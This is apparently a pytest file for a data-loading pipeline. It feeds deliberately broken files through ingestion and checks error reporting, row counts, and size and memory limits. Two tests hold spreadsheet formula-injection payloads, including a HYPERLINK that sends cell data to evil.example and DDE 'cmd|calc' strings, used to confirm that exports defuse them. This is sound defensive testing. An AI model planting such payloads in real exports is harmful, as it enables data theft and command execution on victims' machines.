"""Hostile files through the whole pipeline (tests/data/bad/, see its README.md).

For every corpus file: ``load_files`` never raises; every Problem it reports is a key of both
catalogs and translates with its params without a leftover ``{placeholder}``; the specific
problem the file was built to provoke is reported; the good rows (hand-counted) are kept; and
the row accounting adds up. Exports of data holding formula payloads cannot start a formula.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import tomllib
from pathlib import Path

import openpyxl
import pytest

from opslab.present import export
from opslab.core.i18n import catalog, t
from opslab.ingest.read import ReadOptions, read_table
from opslab.dataset.load import inspect_file, load_files
from opslab.core.problems import ERROR
from tests.data import make_bad_files as mk

ROOT = Path(__file__).resolve().parents[3]
BAD = ROOT / "tests" / "data" / "bad"
PLACEHOLDER = re.compile(r"\{[A-Za-z_][A-Za-z0-9_]*\}")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# name -> (a Dataset comes out?, codes that must be reported, clean rows kept (None: no table))
CASES = {
    "empty.csv": (False, {"io.empty_file", "loader.need_activity"}, None),
    "whitespace_only.csv": (False, {"io.empty_file"}, None),
    "header_only.csv": (False, {"io.no_data_rows"}, None),
    "binary.csv": (False, {"io.binary_file"}, None),
    "png_renamed.csv": (False, {"io.binary_file"}, None),
    "one_column.csv": (False, {"io.single_column", "loader.need_activity"}, 20),
    "mixed_encoding.csv": (True, set(), 4),
    "bom_then_gbk.csv": (True, {"io.bom_mismatch"}, 3),
    # 2024-01-05 and 2024-01-06 survive; 2100-12-31 (future) and 1899-12-30 (before 1900) are
    # rejected; 1900-01-01 is a real date but a placeholder far from the rest: set aside
    "dates_1900_2100.csv": (True, {"validate.date_too_early", "validate.date_in_future",
                                   "validate.placeholder_dates"}, 2),
    # 99.5, ¥1280 and -50 (a refund, issue 21) survive; 1e15 and 1,000,...,000 (absurd), "abc" (bad)
    "extreme_amounts.csv": (True, {"validate.refund_rows.negative", "validate.absurd_amount",
                                   "validate.bad_amount"}, 3),
    # "", "NULL", "  ", "N/A" are missing ids; U3 and U5 survive
    "missing_ids.csv": (True, {"validate.missing_id"}, 2),
    # 6 orders without an order id: 3 copies of one row, 2 of another, 1 single -> separate
    # purchases, all kept, and the 3 repeats are reported with their amount
    "duplicated_rows.csv": (True, {"validate.duplicate_rows_kept"}, 6),
    "formula_strings.csv": (True, set(), 12),
    "excel_serial_dates.csv": (True, set(), 6),
    "empty_first_sheet.xlsx": (True, {"io.sheet_auto_selected"}, 3),
    "html_disguised.xls": (False, {"io.xls_unsupported"}, None),
    "corrupt.xlsx": (False, {"io.xlsx_invalid"}, None),
    "utf16_excel.tsv": (True, set(), 3),
    # the quote swallows nothing once quoting is off, but "20,app" -> "\"20" is not an amount
    "unclosed_quote.csv": (True, {"io.unclosed_quote", "validate.bad_amount"}, 2),
    # the 6-field line is skipped by the reader, the 2-field line has no amount
    "ragged_rows.csv": (True, {"io.bad_lines", "validate.missing_value"}, 2),
    "nul_bytes.csv": (True, {"io.control_chars_removed"}, 40),
    "no_usable_columns.csv": (False, {"validate.missing_column", "loader.need_activity"}, 0),
}


def _all_problems(files, report):
    out = list(report)
    for f in files:
        out += list(f.read.report)
        if f.result is not None:
            out += list(f.result.report)
    return out


def _check_translatable(problems) -> None:
    zh, en = catalog("zh"), catalog("en")
    for p in problems:
        assert p.code in zh and p.code in en, f"{p.code} missing from a catalog"
        for lang in ("zh", "en"):
            # the Data page fills column and count as well as the problem's own params
            params = {"column": p.column or "", "count": f"{p.count:,}", **p.params}
            text = t(p.code, lang, **params)
            assert not PLACEHOLDER.search(text), (lang, p.code, p.params, text)
            assert text != p.code


def _content(data: bytes, name: str):
    """A file's bytes, or for a readable .xlsx its sheets' cell values: openpyxl serialises the
    same workbook differently with and without lxml installed, so bytes would test the
    environment rather than the generator."""
    if not name.endswith(".xlsx"):
        return data
    try:
        wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    except Exception:  # the deliberately corrupt workbook: compare its bytes
        return data
    return [(ws.title, ws.sheet_state, [list(r) for r in ws.iter_rows(values_only=True)])
            for ws in wb.worksheets]


def test_committed_corpus_is_what_the_generator_makes():
    committed = {p.name for p in BAD.iterdir() if p.name != "README.md"}
    assert committed == set(mk.CORPUS) == set(CASES)
    for name, make in mk.CORPUS.items():
        assert _content((BAD / name).read_bytes(), name) == _content(make(), name), name
    total = sum(p.stat().st_size for p in BAD.iterdir())
    assert total < 1024**2
    readme = (BAD / "README.md").read_text(encoding="utf-8")
    for name in CASES:
        assert f"`{name}`" in readme, f"{name} is not described in README.md"


@pytest.mark.parametrize("name", sorted(CASES))
def test_bad_file_through_pipeline(name):
    has_ds, codes, n_clean = CASES[name]
    ds, files, report = load_files([(name, (BAD / name).read_bytes())])
    problems = _all_problems(files, report)
    _check_translatable(problems)
    found = {p.code for p in problems}
    assert codes <= found, f"expected {codes - found}, got {found}"
    assert (ds is not None) == has_ds
    if not has_ds:
        assert any(p.severity == ERROR for p in problems)
    (f,) = files
    if n_clean is None:
        assert f.result is None
        return
    res = f.result
    assert res.n_clean == n_clean == len(res.clean)
    assert res.n_clean + res.n_rejected + res.n_dropped == res.n_input
    if has_ds:
        table = getattr(ds, f.table)
        assert len(table) == n_clean


def test_rejections_are_the_right_rows():
    """Which rows go, checked against the files' content rather than only counts."""
    _, files, _ = load_files([("d.csv", (BAD / "dates_1900_2100.csv").read_bytes())])
    res = files[0].result
    assert sorted(res.clean["user_id"]) == ["U3", "U4"]
    assert sorted(res.rejected["row"]) == [3, 6]
    assert set(res.rejected["reason"]) == {"validate.date_too_early", "validate.date_in_future"}
    assert res.dropped["row"].tolist() == [2] and res.dropped["reason"].tolist() == ["validate.placeholder_dates"]

    _, files, _ = load_files([("a.csv", (BAD / "extreme_amounts.csv").read_bytes())])
    res = files[0].result
    assert sorted(res.clean["amount"]) == [-50.0, 99.5, 1280.0]  # -50: a refund, kept (issue 21)
    reasons = dict(zip(res.rejected["用户ID"], res.rejected["reason"]))  # raw columns
    assert reasons == {"U2": "validate.absurd_amount", "U3": "validate.absurd_amount",
                       "U6": "validate.bad_amount"}

    _, files, _ = load_files([("s.csv", (BAD / "excel_serial_dates.csv").read_bytes())])
    times = [str(x) for x in files[0].result.clean["order_time"]]
    assert times[0] == "2024-01-05 00:00:00"  # Excel serial 45296
    assert times[-1] == "2024-01-05 12:00:00"  # 45296.5 is noon

    _, files, _ = load_files([("b.csv", (BAD / "bom_then_gbk.csv").read_bytes())])
    assert files[0].result.clean["user_id"].tolist() == ["张三", "李四", "王五"]


def test_mixed_encoding_is_decoded_line_by_line_and_reported():
    _, files, _ = load_files([("m.csv", (BAD / "mixed_encoding.csv").read_bytes())])
    f = files[0]
    assert f.result.clean["user_id"].tolist() == ["张三", "李四", "王五", "赵六"]
    assert "io.mixed_encoding" in [p.code for p in f.read.report]


def _csv_cells(data: bytes):
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_exports_of_formula_strings_are_inert():
    ds, files, _ = load_files([("f.csv", (BAD / "formula_strings.csv").read_bytes())])
    frames = [files[0].result.clean, ds.events, files[0].read.df]
    for frame in frames:
        cells = _csv_cells(export.to_csv_bytes(frame))
        assert cells and not [c for c in cells if c.startswith(DANGEROUS)]
        # the payload is kept, only defused
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells
        assert "'@SUM(1+1)*cmd" in cells and "'+cmd|' /C calc'!A0" in cells

        wb = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(frame)))
        n_str = 0
        for row in wb.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    n_str += 1
                    assert not cell.value.startswith(DANGEROUS), cell.value
        assert n_str > len(frame)


def test_rejected_rows_export_is_inert():
    """The Data page offers rejected rows (raw text) as a download."""
    # (a negative amount is a refund and kept since issue 21: the third row lacks its amount)
    raw = ("user_id,order_time,amount\n=cmd|calc,2024-01-05,abc\n@x,1899-12-31,5\n+1,2024-01-05,\n")
    _, files, _ = load_files([("r.csv", raw.encode())])
    rej = files[0].result.rejected
    assert len(rej) == 3
    cells = _csv_cells(export.to_csv_bytes(rej))
    assert not [c for c in cells if c.startswith(DANGEROUS)]


@pytest.mark.slow
def test_five_thousand_columns_are_refused_politely():
    data = mk.wide_csv(5000)
    ds, files, report = load_files([("wide.csv", data)])
    problems = _all_problems(files, report)
    _check_translatable(problems)
    (p,) = [p for p in problems if p.code == "io.too_many_columns"]
    assert p.params == {"n": 5000, "limit": 500}
    assert ds is None
    # just over the cap is refused too; under a raised cap it reads and the real columns map
    wide = mk.wide_csv(520)
    assert inspect_file("w.csv", wide).read.df is None
    f = inspect_file("w.csv", wide, ReadOptions(max_columns=600))
    assert f.read.df.shape == (3, 520)
    assert f.mapping_dict["user_id"] == "user_id" and f.mapping_dict["event_time"] == "event_time"


def test_size_cap_without_allocating_gigabytes():
    """A "2 GB" upload is refused by size; shown here with a small cap on a small file."""
    data = b"user_id,event_time\n" + b"U1,2024-01-05\n" * 200  # 2,819 bytes
    res = read_table(data, "huge.csv", ReadOptions(max_bytes=1024))
    assert res.df is None
    (p,) = res.report.problems
    assert p.code == "io.too_large" and p.severity == ERROR
    assert p.params["limit_mb"] == round(1024 / 1024**2, 1)
    _check_translatable([p])
    assert read_table(data, "ok.csv", ReadOptions(max_bytes=4096)).df is not None
    # Streamlit refuses bigger uploads before they reach us; the two caps agree
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    upload_mb = cfg["server"]["maxUploadSize"]
    assert 0 < upload_mb <= ReadOptions().max_bytes / 1024**2 < 2048


_MEMORY_SCRIPT = """
import json, resource, sys, tracemalloc
import psutil
from tests.data import make_bad_files as mk
from opslab.dataset.load import apply_mapping, inspect_file
traced = sys.argv[1] == "traced"
data, n_rows = mk.big_csv(50 * 1024**2)
base = psutil.Process().memory_info().rss
if traced:
    tracemalloc.start()
f = inspect_file("big.csv", data)
f = apply_mapping(f, f.table, f.mapping_dict, today="2024-12-31")
def high_water():
    # this process's own peak resident set (VmHWM). ru_maxrss is not: Linux carries the parent's
    # peak across fork + exec, so a child of a 1 GB test worker "peaked" at 1 GB before it began
    try:
        with open("/proc/self/status") as status:
            return next(int(l.split()[1]) * 1024 for l in status if l.startswith("VmHWM:"))
    except OSError:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
peak = tracemalloc.get_traced_memory()[1] if traced else high_water() - base
r = f.result
print(json.dumps({"size": len(data), "peak": peak, "n": n_rows, "n_clean": r.n_clean,
                  "n_rejected": r.n_rejected, "n_duplicates": r.n_duplicates}))
"""


def _measure(kind: str) -> dict:
    out = subprocess.run([sys.executable, "-c", _MEMORY_SCRIPT, kind], cwd=ROOT, capture_output=True, text=True,
                         check=True, timeout=300)
    return json.loads(out.stdout.strip().splitlines()[-1])


@pytest.mark.slow
def test_memory_bounded_on_50mb_csv():
    """Peak memory of reading + validating a ~50 MB CSV stays under 12x the file size.

    Each measure runs in a fresh process, so nothing else the test session holds counts.
    tracemalloc sees Python and NumPy allocations but not Arrow's pool (pandas' str dtype), so
    the resident set is checked too (measured: ~4x traced, ~8x resident)."""
    traced = _measure("traced")
    assert traced["n_clean"] == traced["n"] and traced["n_rejected"] == 0 and traced["n_duplicates"] == 0
    assert traced["peak"] < 12 * traced["size"], f"traced peak {traced['peak'] / 2**20:.0f} MiB"
    resident = _measure("rss")
    assert resident["peak"] < 12 * resident["size"], f"RSS grew {resident['peak'] / 2**20:.0f} MiB"


def test_the_proxy_takes_the_uploads_streamlit_takes():
    """nginx refuses request bodies above ``client_max_body_size``: it must let through every
    upload Streamlit accepts (it once stopped at 200 MB while Streamlit took 512)."""
    import re
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    conf = (ROOT / "deploy" / "nginx" / "opslab.conf").read_text(encoding="utf-8")
    (size,) = re.findall(r"client_max_body_size\s+(\d+)m;", conf)
    assert int(size) >= cfg["server"]["maxUploadSize"] == ReadOptions().max_bytes // 1024**2
